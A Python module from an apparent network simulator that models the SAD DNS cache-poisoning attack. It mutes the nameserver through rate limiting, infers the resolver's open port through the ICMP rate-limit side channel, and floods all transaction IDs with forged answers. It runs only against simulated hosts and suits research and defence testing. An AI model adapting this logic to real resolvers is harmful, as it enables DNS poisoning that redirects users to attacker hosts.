"""Side-channel port inference followed by a TXID flood.

Each iteration the attacker

1. floods the nameserver with its own queries so response-rate limiting
   mutes it, keeping the resolver's port open until timeout;
2. triggers the lookup;
3. scans the resolver's ephemeral ports in windows of ``set_size``
   spoofed probes (source nameserver:53) plus one probe from its own
   address to a closed port.  The resolver's ICMP budget is global, so the
   own-address probe is answered only if some spoofed probe hit the open
   port and therefore drew no ICMP error;
4. halves the hit window until one port is left and has answered on its
   own (a port reached only by elimination is probed once more);
5. sends all 65536 TXIDs to that port.
"""

from __future__ import annotations

import math

from functools import lru_cache

from ..netmodel import (
    PROTO_ICMP,
    Batch,
    DnsMessage,
    IcmpKind,
    IcmpMessage,
    ResourceRecord,
    SimPacket,
    TxidSweep,
    ip_str,
    udp_packet,
)
from ..scenario import build_world, compile_scenario, malicious_rdata, qtype_code
from ..simcore import millis, seconds
from .common import AttackerHost, FailureReason, PreconditionError, TrialResult, collect_result

VERIFY_PORT = 1
REPLYING_TRIGGERS = ("direct", "on-demand", "third-party")


def scan_probe_bound(port_count: int, set_size: int) -> int:
    """Most probes a lossless scan plus halving can need to isolate one port."""
    windows = math.ceil(port_count / set_size) + math.ceil(math.log2(set_size))
    return windows * (set_size + 1)


@lru_cache(maxsize=1 << 17)
def _spoofed_probe(src_ip: int, dst_ip: int, port: int) -> SimPacket:
    # identical every time it is sent, so build it once
    return udp_packet(src_ip, dst_ip, 53, port, b"")


@lru_cache(maxsize=16)
def _port_list(lo: int, hi: int) -> tuple[int, ...]:
    return tuple(p for p in range(lo, hi + 1) if p != 53)


class SadDnsAttack:
    def __init__(self, world, attacker: AttackerHost):
        self.world = world
        self.host = attacker
        attacker.strategy = self
        comp = world.compiled
        cfg = comp.attacker
        rcfg = comp.resolver_config
        self.cfg = cfg
        self.trigger = comp.trigger
        self.qname = comp.target["qname"].lower()
        self.qtype = qtype_code(comp.target["qtype"])
        self.ns_ip = world.ips["nameserver"]
        self.resolver_ip = world.ips["resolver"]
        self.set_size = int(cfg["set_size"] or rcfg.icmp_limit)
        self.window = millis(float(cfg["window_ms"])) if cfg["window_ms"] else rcfg.icmp_window
        self.scan_delay = millis(float(cfg["scan_delay_ms"]))
        self.budget = seconds(float(cfg["budget_s"]))
        self.iteration_timeout = seconds(float(cfg["iteration_timeout_s"]))
        self.max_iterations = cfg["max_iterations"]
        lo, hi = int(cfg["scan_lo"]), int(cfg["scan_hi"])
        self.ports = _port_list(lo, hi)
        self.closed_pad = list(_port_list(2, 1023)[: self.set_size])
        self.known_port = cfg["known_port"]
        if comp.nameserver_config.rrl_threshold is None and not self.known_port:
            raise PreconditionError("nameserver has no response-rate limiting to mute it with")
        if len(self.closed_pad) < self.set_size:
            raise PreconditionError("set_size larger than the known-closed port pool")
        self.template = DnsMessage(0, True, self.qname, self.qtype, aa=True, rd=False, answer=[
            ResourceRecord(self.qname, self.qtype, int(cfg["poison_ttl"]),
                           malicious_rdata(self.qtype, ip_str(attacker.ip)))])
        # progress and counters
        self.iterations = 0
        self.queries = 0
        self.probes_sent = 0
        self.scan_windows = 0
        self.halving_windows = 0
        self.floods = 0
        self.found_ports: list[int] = []
        self.reason: FailureReason | None = None
        self.finished = False
        self._cursor = 0
        self._epoch = 0
        self._seq = 0
        self._windows: dict[int, list[int]] = {}
        self._candidates: list[int] = []
        self._half: list[int] = []
        self._half_hit = False
        self._half_seq = 0
        self._confirmed = False
        self._last_probe_at = 0
        if self.trigger.kind in REPLYING_TRIGGERS:
            world.client.answer_listeners.append(self._client_answer)

    @property
    def found_port(self) -> int | None:
        return self.found_ports[-1] if self.found_ports else None

    # -- iteration loop ---------------------------------------------------
    def start(self) -> None:
        self.t0 = self.host.now
        self.host.set_timer(self.budget, self._finish, FailureReason.BUDGET_EXHAUSTED)
        self.host.set_timer(0, self._iteration)

    def _finish(self, reason: FailureReason | None = None) -> None:
        if not self.finished:
            self.finished = True
            self._epoch += 1
            self.reason = reason
            self.world.engine.stop()

    def _iteration(self) -> None:
        if self.finished or self.world.success:
            return
        if self.max_iterations is not None and self.iterations >= int(self.max_iterations):
            self._finish(FailureReason.BUDGET_EXHAUSTED)
            return
        self.iterations += 1
        self._epoch += 1
        epoch = self._epoch
        self._mute()
        try:
            fire = self.world.client.trigger(self.trigger, self.qname, self.qtype)
        except ValueError:
            self._finish(FailureReason.TRIGGER_REFUSED)
            return
        self.queries += 1
        if self.known_port:
            self.host.set_timer_at(fire + self.scan_delay, self._flood, int(self.known_port), epoch)
        else:
            self.host.set_timer_at(fire + self.scan_delay, self._scan_window, epoch)
        self.host.set_timer_at(fire + self.iteration_timeout, self._end_iteration, epoch)

    def _end_iteration(self, epoch: int) -> None:
        if epoch == self._epoch and not self.finished:
            self._iteration()

    def _client_answer(self, msg: DnsMessage) -> None:
        # the answer (normally SERVFAIL) closes this iteration
        if msg.qname.lower() == self.qname and not self.finished:
            self._epoch += 1
            self.host.set_timer(0, self._iteration)

    def _mute(self) -> None:
        n = int(self.cfg["mute_burst"])
        if n <= 0:
            return
        rng = self.host.rng
        pkts = []
        for i in range(n):
            q = DnsMessage(rng.uniform_int(0, 0xFFFF), False, self.qname, self.qtype, rd=False)
            pkts.append(udp_packet(self.host.ip, self.ns_ip, rng.uniform_int(1024, 65535), 53, q.encode()))
        self.host.send(Batch(pkts, self.ns_ip))

    # -- probing ----------------------------------------------------------
    def _probe(self, ports: list[int]) -> int:
        """Send one window: spoofed probes to ``ports`` plus the verification probe."""
        self._seq += 1
        seq = self._seq
        pkts = [_spoofed_probe(self.ns_ip, self.resolver_ip, p) for p in ports]
        pkts.append(udp_packet(self.host.ip, self.resolver_ip, 1 + seq % 65535, VERIFY_PORT, b""))
        self.probes_sent += len(pkts)
        self._last_probe_at = self.host.now
        self.host.send_spoofed(Batch(pkts, self.resolver_ip))
        return seq

    def _padded(self, ports: list[int]) -> list[int]:
        pad = [p for p in self.closed_pad if p not in ports]
        return ports + pad[: self.set_size - len(ports)]

    def _scan_window(self, epoch: int) -> None:
        if epoch != self._epoch or self.finished:
            return
        # a pass never wraps: its last window carries only unscanned ports
        ports = list(self.ports[self._cursor:self._cursor + self.set_size])
        self._cursor = (self._cursor + len(ports)) % len(self.ports)
        seq = self._probe(self._padded(ports))
        self._windows[1 + seq % 65535] = ports
        self.scan_windows += 1
        self.host.set_timer(self.window + 1, self._scan_window, epoch)

    def on_packet(self, unit) -> None:
        if not isinstance(unit, SimPacket) or unit.protocol != PROTO_ICMP or unit.src_ip != self.resolver_ip:
            return
        try:
            msg = IcmpMessage.from_bytes(unit.payload)
        except ValueError:
            return
        if msg.kind is not IcmpKind.PORT_UNREACHABLE or len(msg.quoted) < 24:
            return
        sport = msg.quoted[20] << 8 | msg.quoted[21]
        ports = self._windows.pop(sport, None)
        if ports is not None:
            # a scan window contained the open port: stop scanning, start halving
            self._epoch += 1
            self._windows.clear()
            self._candidates = ports
            self._confirmed = len(ports) == 1
            # the hit window spent the ICMP budget; wait for the next one
            when = max(self.host.now, self._last_probe_at + self.window + 1)
            self.host.set_timer_at(when, self._halve, self._epoch)
        elif self._half and sport == 1 + self._half_seq % 65535:
            self._half_hit = True

    def _halve(self, epoch: int) -> None:
        if epoch != self._epoch or self.finished:
            return
        if len(self._candidates) == 1 and self._confirmed:
            self._half = []
            self._flood(self._candidates[0], epoch)
            return
        # a lone candidate reached by elimination is probed once more on its own
        half = self._candidates[: max(1, len(self._candidates) // 2)]
        self._half = half
        self._half_hit = False
        self._half_seq = self._probe(self._padded(half))
        self.halving_windows += 1
        self.host.set_timer(self.window + 1, self._halve_step, epoch)

    def _halve_step(self, epoch: int) -> None:
        if epoch != self._epoch or self.finished:
            return
        if self._half_hit:
            self._candidates = self._half
            self._confirmed = len(self._half) == 1
        elif len(self._candidates) == 1:
            # confirmation failed (lost reply or port closed): back to scanning
            self._half = []
            self._scan_window(epoch)
            return
        else:
            self._candidates = self._candidates[len(self._half):]
            self._confirmed = False
        self._halve(epoch)

    def _flood(self, port: int, epoch: int) -> None:
        if epoch != self._epoch or self.finished:
            return
        self.found_ports.append(port)
        self.floods += 1
        self.host.send_spoofed(TxidSweep(self.ns_ip, self.resolver_ip, 53, port, self.template, range(65536)))
        if not self.known_port:
            # a retry may open a fresh port within this iteration
            self.host.set_timer(self.window + 1, self._scan_window, epoch)


def run_compiled(compiled, trial: int, keep: list | None = None) -> TrialResult:
    world = build_world(compiled, trial)
    host = AttackerHost(world.ips["attacker"])
    world.add_attacker(host)
    attack = SadDnsAttack(world, host)
    if keep is not None:
        keep.append((world, attack))
    attack.start()
    world.engine.run()
    return collect_result(world, host, attack.iterations, attack.queries, attack.reason)


def run_saddns(scenario, trial: int = 0) -> TrialResult:
    """One side-channel trial of ``scenario``."""
    if scenario.method != "saddns":
        raise PreconditionError(f"scenario method is {scenario.method!r}, not 'saddns'")
    return run_compiled(compile_scenario(scenario), trial)
